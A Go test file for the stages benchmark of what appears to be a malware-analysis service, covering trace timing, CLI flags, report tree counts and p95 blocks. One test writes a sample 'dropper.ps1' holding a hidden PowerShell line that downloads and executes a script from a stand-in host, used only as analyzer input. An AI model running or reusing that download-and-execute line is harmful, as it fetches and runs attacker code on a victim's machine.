package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/athena-mesh/athena/internal/testutil"
	"go.opentelemetry.io/otel/trace"
)

// The stage shares of a trace split overlapping work evenly and add up to the wall time.
func TestStageTotalsSplitsOverlaps(t *testing.T) {
	t0 := time.Unix(1000, 0)
	ms := func(n int) time.Time { return t0.Add(time.Duration(n) * time.Millisecond) }
	tr := trace.TraceID{1}
	span := func(id, parent byte, name, module string, depth, from, to int) recordedSpan {
		return recordedSpan{trace: tr, id: trace.SpanID{id}, parent: trace.SpanID{parent}, name: name, module: module, depth: depth, start: ms(from), end: ms(to)}
	}
	spans := []recordedSpan{
		span(1, 0, "POST /v1/analyses", "", -1, 0, 100),
		span(2, 1, "analyze sample", "", 0, 10, 90),
		span(3, 2, "wasmruntime.invoke", "crypto", -1, 20, 60),
		span(4, 2, "wasmruntime.invoke", "network", -1, 40, 80),
		span(5, 2, "analyze sample", "", 1, 80, 85), // an artifact
		span(6, 5, "orchestrator.score", "", -1, 82, 84),
		// A background trace (health check) does not count.
		{trace: trace.TraceID{2}, id: trace.SpanID{9}, name: "grpc.health.v1.Health/Check", start: ms(0), end: ms(50)},
	}
	tot := newStageTotals()
	tot.add(spans)
	if tot.traces != 1 || tot.wall != 100*time.Millisecond {
		t.Fatalf("traces %d wall %s; want 1 trace of 100ms", tot.traces, tot.wall)
	}
	want := map[string]time.Duration{
		"gateway (REST, JSON, gRPC hop)":                      20 * time.Millisecond,
		"orchestrator (hashing, routing, merging)":            15 * time.Millisecond, // alone 10-20 and 85-90
		"module crypto (wasm)":                                30 * time.Millisecond, // 20-40 alone, 40-60 shared
		"module network (wasm)":                               30 * time.Millisecond, // 40-60 shared, 60-80 alone
		"recursion: orchestrator (hashing, routing, merging)": 3 * time.Millisecond,
		"recursion: scoring":                                  2 * time.Millisecond,
	}
	var sum time.Duration
	for st, d := range tot.share {
		sum += d
		if want[st] != d {
			t.Errorf("stage %q share %s; want %s", st, d, want[st])
		}
	}
	if sum != tot.wall {
		t.Errorf("shares add up to %s; want the wall %s", sum, tot.wall)
	}
	if got := tot.busy["module crypto (wasm)"]; got != 40*time.Millisecond {
		t.Errorf("crypto busy %s; want its span's 40ms", got)
	}
}

// A trace whose root span was not recorded is left out rather than counted partially.
func TestStageTotalsSkipsPartialTraces(t *testing.T) {
	t0 := time.Unix(1000, 0)
	tr := trace.TraceID{3}
	tot := newStageTotals()
	tot.add([]recordedSpan{
		{trace: tr, id: trace.SpanID{2}, parent: trace.SpanID{1}, name: "analyze sample", start: t0, end: t0.Add(time.Second)},
		{trace: tr, id: trace.SpanID{3}, parent: trace.SpanID{7}, name: "wasmruntime.invoke", start: t0, end: t0.Add(time.Second)},
	})
	if tot.traces != 0 {
		t.Errorf("%d traces counted; want 0", tot.traces)
	}
}

func TestBenchStagesFlags(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
	}{
		{"remote mesh", []string{"bench", "--mode", "stages", "--url", "http://127.0.0.1:1", "--stage-sample", "x=y"}},
		{"no sample", []string{"bench", "--mode", "stages"}},
		{"no runs", []string{"bench", "--mode", "stages", "--stage-sample", "x=y", "--runs", "0"}},
		{"unknown protocol", []string{"bench", "--mode", "stages", "--stage-sample", "x=y", "--stage-protocol", "carrier-pigeon"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, _, errOut := runCLI(t, tc.args...)
			if code != 2 || !strings.Contains(errOut, "--mode stages") && !strings.Contains(errOut, "--stage-protocol") {
				t.Errorf("exit %d, stderr %q; want a usage error about --mode stages", code, errOut)
			}
		})
	}
}

// A mesh that fails after its listeners opened (here: no modules directory) ends the
// benchmark with its error instead of a wait for readiness that cannot come.
func TestBenchReportsMeshFailure(t *testing.T) {
	code, _, errOut := runCLI(t, "bench", "--mode", "stages", "--modules-dir", filepath.Join(t.TempDir(), "none"),
		"--stage-sample", "x="+filepath.Join(t.TempDir(), "x"))
	if code != 1 || !strings.Contains(errOut, "modules directory") {
		t.Errorf("exit %d, stderr %q; want the runtime's error about its modules directory", code, errOut)
	}
}

// The stages mode measures a sample over either front door of the in-process mesh and breaks
// the traces of both down into stages (the root span of a gRPC analysis is the client's).
func TestBenchStagesProtocols(t *testing.T) {
	sample := filepath.Join(t.TempDir(), "dropper.ps1")
	if err := os.WriteFile(sample, []byte("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	modules := testutil.ModulesDir(t)
	for _, protocol := range []string{"rest", "grpc"} {
		t.Run(protocol, func(t *testing.T) {
			code, out, errOut := runCLI(t, "bench", "--mode", "stages", "--modules-dir", modules, "--stage-sample", "ps="+sample,
				"--runs", "2", "--warmup", "0", "--stage-protocol", protocol)
			if code != 0 {
				t.Fatalf("exit %d\nstderr: %s", code, errOut)
			}
			if !strings.Contains(out, "2 uncached analyses over "+protocol) {
				t.Errorf("output lacks the %s summary line:\n%s", protocol, out)
			}
			if !regexp.MustCompile(`process CPU [0-9.]+s and [0-9]+ page faults per analysis`).MatchString(out) {
				t.Errorf("summary line lacks the CPU time and page faults per analysis:\n%s", out)
			}
			if !regexp.MustCompile(`the mesh allocated [0-9.]+ MB per analysis and collected its garbage [0-9]+ times in the 2\n`).MatchString(out) {
				t.Errorf("no allocation and collection line for the in-process mesh:\n%s", out)
			}
			if !strings.Contains(out, "orchestrator (hashing, routing, merging)") || strings.Contains(out, "no complete traces") {
				t.Errorf("no stage breakdown over %s:\n%s", protocol, out)
			}
		})
	}
}

// The tree count reads nested reports out of the report JSON: analyzed and skipped artifacts
// at every depth, and module runs cut short.
func TestTreeCount(t *testing.T) {
	const report = `{"id":"a","modules":[{"name":"crypto","status":"MODULE_STATUS_OK"},{"name":"sandbox","status":"MODULE_STATUS_DEADLINE_EXCEEDED"}],
		"artifacts":[
			{"sha256":"1","report":{"modules":[{"status":"MODULE_STATUS_UNAVAILABLE"}],"artifacts":[{"sha256":"3","skipReason":"depth"}]}},
			{"sha256":"2","skipReason":"cycle"},
			{"sha256":"4","report":{"verdict":"VERDICT_CLEAN"}}]}`
	var r treeReport
	if err := json.Unmarshal([]byte(report), &r); err != nil {
		t.Fatal(err)
	}
	var tc treeCount
	tc.add(&r)
	if tc != (treeCount{analyzed: 2, skipped: 2, cut: 2}) {
		t.Errorf("got %+v, want 2 analyzed, 2 skipped, 2 cut", tc)
	}
}

// A long stages run reports the p95 of each block of consecutive analyses, in the order they
// ran, so that a slowdown in its course shows; a partial block at the end is left out.
func TestBlockP95s(t *testing.T) {
	var lat []time.Duration
	for i := range 20 { // 20..1 ms: the block is sorted before its p95 is read
		lat = append(lat, time.Duration(20-i)*time.Millisecond)
	}
	for i := range 20 {
		lat = append(lat, time.Duration(100+i)*time.Millisecond)
	}
	lat = append(lat, time.Second) // a partial third block
	got := blockP95s(lat, 20)
	want := []time.Duration{20 * time.Millisecond, 119 * time.Millisecond}
	if !slices.Equal(got, want) {
		t.Errorf("blockP95s = %v, want %v", got, want)
	}
	if got := blockP95s(lat[:19], 20); len(got) != 0 {
		t.Errorf("fewer latencies than a block: %v, want none", got)
	}
}
